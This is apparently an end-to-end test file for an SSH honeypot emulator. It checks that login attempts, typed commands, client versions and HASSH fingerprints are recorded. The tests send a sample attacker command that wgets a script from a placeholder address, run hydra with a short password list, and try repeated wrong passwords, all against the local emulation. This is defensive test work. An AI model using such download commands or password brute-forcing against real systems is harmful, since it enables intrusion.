// End to end: Debian's OpenSSH client (through sshpass) and hydra against the SSH emulation;
// the exec command, an interactive session, every password tried and the client's HASSH must
// come back from the store. Nothing typed is executed by the sensor.

import { execFile, spawnSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { connect, createServer } from 'node:net';
import { join } from 'node:path';
import { Client } from 'ssh2';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { MitsuEvent } from '../src/events/event.js';
import { exportEvents, freePort, startSensor, tempDir, type RunningSensor } from
  './helpers/sensor.js';

const HOST = '127.0.1.1';
const has = (tool: string) => spawnSync('sh', ['-c', `command -v ${tool}`]).status === 0;
const HAS_SSH = has('ssh') && has('sshpass');
const HAS_HYDRA = has('hydra');
const CLIENT_TIMEOUT_MS = 60_000;
const SSH_OPTIONS = ['-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null',
  '-o', 'ConnectTimeout=20'];
const BANNER = 'SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.10\r\n';
/** One of the SSH descriptor's usual ports: silent clients are greeted by port, not bytes. */
const SSH_PORT = 2222;

function canListen(port: number): Promise<boolean> {
  return new Promise((resolve) => {
    const server = createServer();
    server.once('error', () => resolve(false));
    server.listen({ host: HOST, port }, () => server.close(() => resolve(true)));
  });
}

interface Run {
  code: number | null;
  stdout: string;
  stderr: string;
}

function run(cmd: string, args: string[], input?: string): Promise<Run> {
  return new Promise((resolve) => {
    const child = execFile(cmd, args, { timeout: CLIENT_TIMEOUT_MS, encoding: 'utf8' },
      (err, stdout, stderr) => resolve({ code: err === null ? 0 : child.exitCode, stdout,
        stderr }));
    child.stdin?.end(input ?? '');
  });
}

/** Offers up to `count` wrong passwords on one connection; resolves with how many were sent. */
function wrongPasswords(port: number, count: number): Promise<number> {
  return new Promise((resolve) => {
    let sent = 0;
    const client = new Client();
    const finish = () => resolve(sent);
    client.on('error', finish).on('close', finish).on('ready', () => client.end());
    client.connect({ host: HOST, port, username: 'root', readyTimeout: 30_000,
      authHandler: (_methods, _partial, next) => {
        // ssh2 documents `false` as "no more methods"; @types/ssh2 leaves it out.
        if (sent >= count) return next(false as never);
        next({ type: 'password', username: 'root', password: `wrong-${sent++}` });
      } });
  });
}

/** Sends raw bytes, reads until the server closes or `untilBytes` arrived, then closes. */
function exchange(port: number, send: Buffer | null, untilBytes: number): Promise<Buffer> {
  return new Promise((resolve, reject) => {
    const socket = connect({ host: HOST, port }, () => {
      if (send !== null) socket.write(send);
    });
    const chunks: Buffer[] = [];
    const done = () => {
      socket.destroy();
      resolve(Buffer.concat(chunks));
    };
    socket.on('data', (chunk: Buffer) => {
      chunks.push(chunk);
      if (Buffer.concat(chunks).length >= untilBytes) done();
    });
    socket.on('close', done);
    socket.on('error', reject);
  });
}

describe.skipIf(!HAS_SSH)('OpenSSH client against the SSH emulation (needs ssh, sshpass)', () => {
  let sensor: RunningSensor;
  let port: number;
  let events: MitsuEvent[] = [];
  let sshPortFree = false;
  const sshArgs = (user: string, ...rest: string[]) => [...SSH_OPTIONS, '-p', String(port),
    `${user}@${HOST}`, ...rest];

  beforeAll(async () => {
    port = await freePort(HOST);
    sshPortFree = await canListen(SSH_PORT);
    const ports = sshPortFree ? `tcp:${port},tcp:${SSH_PORT}` : `tcp:${port}`;
    sensor = await startSensor({ ports, listen: HOST,
      config: { connection: { first_data_wait_ms: 500 } } });
  });

  afterAll(async () => {
    await sensor?.stop();
  });

  it('answers an exec request with canned output', async () => {
    const out = await run('sshpass', ['-p', 'root', 'ssh', ...sshArgs('root',
      'uname -a; wget http://198.51.100.5/x.sh')]);
    expect(out.stdout).toMatch(/^Linux server 5\.15\.0-105-generic .* GNU\/Linux\n/);
    expect(out.stdout + out.stderr).toContain('Connecting to 198.51.100.5:80... failed');
  });

  it('gives an interactive shell fed through stdin a prompt', async () => {
    const out = await run('sshpass', ['-p', 'admin', 'ssh', '-tt', ...sshArgs('admin')],
      'whoami\ncat /proc/cpuinfo | grep "model name" | head -n 1\nexit\n');
    expect(out.stdout).toContain('admin@server:~$ ');
    expect(out.stdout).toContain('Intel(R) Xeon(R) Platinum 8259CL');
  });

  it('is reported by ssh -v as OpenSSH 8.9p1 of Ubuntu', async () => {
    const out = await run('ssh', ['-v', '-o', 'BatchMode=yes', ...sshArgs('nobody', 'true')]);
    expect(out.code).not.toBe(0);
    expect(out.stderr).toContain('remote software version OpenSSH_8.9p1 Ubuntu-3ubuntu0.10');
  });

  it('sends its identification once to a client that spoke first', async () => {
    const reply = await exchange(port, Buffer.from('SSH-2.0-libssh2_1.4.3\r\n'), 200);
    expect(reply.toString('latin1').startsWith(BANNER)).toBe(true);
    expect(reply.toString('latin1').split('SSH-2.0-').length).toBe(2);
  });

  it('greets a silent client on an SSH port once, then logs it in (needs port 2222 free)',
    async (context) => {
      if (!sshPortFree) context.skip();
      const reply = await exchange(SSH_PORT, null, BANNER.length);
      expect(reply.toString('latin1')).toBe(BANNER);
      // A real client on the same port still gets in and runs its command.
      const out = await run('sshpass', ['-p', 'root', 'ssh', ...SSH_OPTIONS, '-p',
        String(SSH_PORT), `root@${HOST}`, 'id']);
      expect(out.stdout).toBe('uid=0(root) gid=0(root) groups=0(root)\n');
    });

  it.skipIf(!HAS_HYDRA)('records every password hydra tries (needs hydra)', async () => {
    const list = join(tempDir('mitsu-ssh-'), 'passwords.txt');
    writeFileSync(list, 'hunter2\nletmein!\nSummer2024\nroot\n');
    const out = await run('hydra', ['-l', 'root', '-P', list, '-t', '1', '-I',
      `ssh://${HOST}:${port}`]);
    expect(out.stdout).toContain('1 valid password found');
  });

  it('hangs up on the sixth wrong password, as sshd with MaxAuthTries 6 does', async () => {
    const tried = await wrongPasswords(port, 10);
    expect(tried).toBe(6);
  });

  it('recorded credentials, commands, version and HASSH in the exported events', async () => {
    // The corpus record of a libssh2 scanner: its identification line, then nothing.
    await exchange(port, Buffer.from('SSH-2.0-libssh2_1.4.3\r\n'), 1);
    await sensor.stop();
    events = exportEvents(sensor.db);
    expect(events.every((e) => e.protocol === 'ssh' || e.protocol === 'none')).toBe(true);

    const exec = events.find((e) => e.commands.includes('uname -a; wget http://198.51.100.5/x.sh'));
    expect(exec?.credentials).toContainEqual({ username: 'root', password: 'root' });
    expect(exec?.fields['client_version']).toMatch(/^SSH-2\.0-OpenSSH_/);
    expect(exec?.fields['hassh']).toMatch(/^[0-9a-f]{32}$/);
    expect(exec?.fields['login']).toBe('root');

    const shell = events.find((e) => e.commands.includes('whoami'));
    expect(shell?.commands).toEqual(['whoami',
      'cat /proc/cpuinfo | grep "model name" | head -n 1', 'exit']);

    const scanner = events.filter((e) => e.fields['client_version'] === 'SSH-2.0-libssh2_1.4.3');
    expect(scanner.length).toBeGreaterThanOrEqual(1);
  });

  it('kept exactly the six passwords tried before the hang-up', () => {
    const client = events.find((e) => String(e.fields['client_version']).includes('ssh2js'));
    expect(client?.credentials.map((c) => c.password)).toEqual(
      ['wrong-0', 'wrong-1', 'wrong-2', 'wrong-3', 'wrong-4', 'wrong-5']);
    expect(client?.fields['auth_failures']).toBe(6);
  });

  it.skipIf(!HAS_HYDRA)('kept each password hydra tried (needs hydra)', () => {
    const tried = events.flatMap((e) => e.credentials).filter((c) => c.username === 'root')
      .map((c) => c.password);
    for (const password of ['hunter2', 'letmein!', 'Summer2024']) {
      expect(tried).toContain(password);
    }
    const hydra = events.filter((e) => String(e.fields['client_version']).includes('libssh_'));
    expect(hydra.length).toBeGreaterThanOrEqual(1);
  });
});
